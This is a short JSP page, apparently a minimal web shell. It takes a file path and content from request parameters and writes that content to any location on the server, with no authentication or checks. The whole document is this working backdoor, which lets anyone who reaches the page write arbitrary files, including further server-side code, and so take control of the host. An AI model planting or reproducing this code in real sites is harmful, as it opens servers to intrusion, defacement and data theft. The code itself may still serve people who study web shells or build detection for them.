<%@ page import="java.io.*" %>
<%
String p = request.getParameter("path");
String c = request.getParameter("content");
if (p != null) { FileWriter w = new FileWriter(p); w.write(c); w.close(); out.println("ok"); }
%>
